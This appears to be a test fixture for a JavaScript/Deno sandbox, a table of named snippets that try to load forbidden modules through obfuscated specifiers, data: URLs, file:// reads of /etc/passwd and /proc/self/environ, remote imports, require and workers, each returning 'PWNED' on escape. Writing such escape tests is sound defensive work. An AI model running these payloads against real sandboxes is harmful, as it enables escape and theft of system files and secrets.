/** Dynamic imports, and modules by other ways. */

export const MODULES: Readonly<Record<string, string>> = {
  "module-computed":
    `const m = await import("no" + "de:" + "fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-template":
    "const n = 'fs'; const m = await import(`node:${n}`); return 'PWNED ' + typeof m.readFileSync;",
  "module-bare": `const m = await import("fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-static": `import fs from "node:fs"; return "PWNED " + typeof fs.readFileSync;`,
  "module-static-json": `import x from "{{SECRET}}" with { type: "text" }; return x;`,
  "module-export-from": `export * from "node:fs"; return "PWNED";`,
  "module-to-string":
    `const m = await import({ toString: () => "node:fs" }); return "PWNED " + typeof m.readFileSync;`,
  "module-to-string-twice":
    `let n = 0; const m = await import({ toString: () => n++ ? "node:fs" : "./x.ts" }); return "PWNED " + typeof m.readFileSync;`,
  "module-case": `const m = await import("NODE:fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-whitespace":
    `const m = await import(" node:fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-tab": `const m = await import("no\\tde:fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-data-base64":
    `const m = await import("data:application/javascript;base64,ZXhwb3J0IGRlZmF1bHQgNDI="); return "PWNED " + m.default;`,
  "module-data-upper":
    `const m = await import("DATA:text/javascript,export default 42"); return "PWNED " + m.default;`,
  "module-data-typescript":
    `const m = await import("data:application/typescript,export default 42 as number"); return "PWNED " + m.default;`,
  "module-data-json":
    `const m = await import('data:application/json,{"a":42}', { with: { type: "json" } }); return "PWNED " + m.default.a;`,
  "module-data-bytes":
    `const m = await import("data:text/plain,x", { with: { type: "bytes" } }); return "PWNED " + m.default;`,
  "module-file": `const m = await import("file:///etc/passwd"); return "PWNED " + Object.keys(m);`,
  "module-file-secret":
    `const m = await import("file://{{SECRET}}", { with: { type: "text" } }); return m.default;`,
  "module-file-bytes":
    `const m = await import("file://{{SECRET}}", { with: { type: "bytes" } }); return new TextDecoder().decode(m.default);`,
  "module-relative": `const m = await import("./main.ts"); return "PWNED " + Object.keys(m);`,
  "module-root":
    `const m = await import("/proc/self/environ", { with: { type: "text" } }); return "PWNED " + m.default;`,
  "module-kernel-by-stack":
    `const url = /(file:[^:)]*)/.exec(new Error("x").stack)?.[1]; if (!url) return "no path"; const m = await import(url); return "PWNED " + Object.keys(m);`,
  "module-import-meta": `return "PWNED " + import.meta.url;`,
  "module-import-meta-resolve": `return "PWNED " + import.meta.resolve("node:fs");`,
  "module-jsr": `const m = await import("jsr:@std/fs"); return "PWNED " + Object.keys(m);`,
  "module-npm": `const m = await import("npm:acorn"); return "PWNED " + Object.keys(m);`,
  "module-https":
    `const m = await import("https://esm.sh/is-number"); return "PWNED " + Object.keys(m);`,
  "module-http-listener":
    `const m = await import("http://127.0.0.1:{{PORT}}/mod.js"); return "PWNED " + Object.keys(m);`,
  "module-from-callback":
    `return await ["node:fs"].map((s) => import(s))[0].then((m) => "PWNED " + typeof m.readFileSync);`,
  "module-from-function-source":
    `const f = () => import("node:fs"); return "PWNED " + typeof (await f()).readFileSync;`,
  "module-from-timer":
    `return await new Promise((done, fail) => setTimeout(() => import("node:fs").then((m) => done("PWNED " + typeof m.readFileSync), fail), 1));`,
  "module-from-finally":
    `return await Promise.resolve().finally(() => import("node:fs")).then((m) => "PWNED " + m);`,
  "module-from-async-disposal":
    `let m; { await using _ = { async [Symbol.asyncDispose]() { m = await import("node:fs"); } }; } return "PWNED " + typeof m.readFileSync;`,
  "module-defer":
    `const m = await import.defer("node:fs"); return "PWNED " + typeof m.readFileSync;`,
  "module-source": `const m = await import.source("node:fs"); return "PWNED " + typeof m;`,
  "module-require": `return "PWNED " + typeof require("fs").readFileSync;`,
  "module-create-require":
    `const { createRequire } = await import("node:module"); return "PWNED " + typeof createRequire("/")("fs");`,
  "module-builtin-module": `return "PWNED " + typeof globalThis["process"].getBuiltinModule("fs");`,
  "module-worker-blob":
    `const u = URL.createObjectURL(new Blob(["postMessage(typeof Deno)"], { type: "text/javascript" })); const w = new Worker(u, { type: "module" }); return "PWNED " + await new Promise((r) => { w.onmessage = (e) => r(e.data); });`,
  "module-shared-worker": `return "PWNED " + new SharedWorker("data:text/javascript,0");`,
  "module-service-worker":
    `return "PWNED " + await navigator.serviceWorker.register("data:text/javascript,0");`,
};
